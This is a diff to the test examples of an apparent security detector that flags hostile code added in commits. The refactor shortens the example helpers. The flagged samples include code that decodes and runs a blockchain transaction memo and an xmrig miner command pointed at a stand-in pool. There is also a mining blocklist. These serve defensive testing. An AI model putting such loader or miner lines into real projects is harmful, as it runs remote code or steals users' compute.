@@ -1,6 +1,6 @@
 import { z } from "zod";
 import { defineDetector, type Signal } from "../../model/detector.ts";
-import { aCommit, aFile } from "../../model/examples.ts";
+import { aChange } from "../../model/examples.ts";
 import { addedSinks } from "../../text/added-sinks.ts";
 import { DECODES, RUNS_TEXT, STARTS_PROCESS } from "../../text/calls.ts";
 import { visible } from "../../text/lines.ts";
@@ -48,41 +48,24 @@ export default defineDetector({
     flags: [
       {
         name: "a transaction's memo decoded and run",
-        commit: aCommit({
-          files: [
-            aFile({
-              path: "lib/a.js",
-              added: `const s = await rpc("getSignaturesForAddress", [address]);\n${RUN}(atob(s[0].memo));`,
-              at: 3,
-            }),
-          ],
-        }),
+        commit: aChange(
+          "lib/a.js",
+          `const s = await rpc("getSignaturesForAddress", [address]);\n${RUN}(atob(s[0].memo));`,
+        ),
       },
       {
         name: "a miner",
-        commit: aCommit({
-          files: [
-            aFile({ path: "scripts/run.sh", added: "./xmrig -o stratum+tcp://pool.example:3333 -u wallet", at: 3 }),
-          ],
-        }),
+        commit: aChange("scripts/run.sh", "./xmrig -o stratum+tcp://pool.example:3333 -u wallet"),
       },
     ],
     passes: [
       {
         name: "a wallet that lists transactions",
-        commit: aCommit({
-          files: [
-            aFile({
-              path: "src/wallet.ts",
-              added: "const signatures = await connection.getSignaturesForAddress(address);",
-              at: 3,
-            }),
-          ],
-        }),
+        commit: aChange("src/wallet.ts", "const signatures = await connection.getSignaturesForAddress(address);"),
       },
       {
         name: "a list of mining software to block",
-        commit: aCommit({ files: [aFile({ path: "docs/blocklist.md", added: "- xmrig\n- stratum+tcp://", at: 3 })] }),
+        commit: aChange("docs/blocklist.md", "- xmrig\n- stratum+tcp://"),
       },
     ],
   },
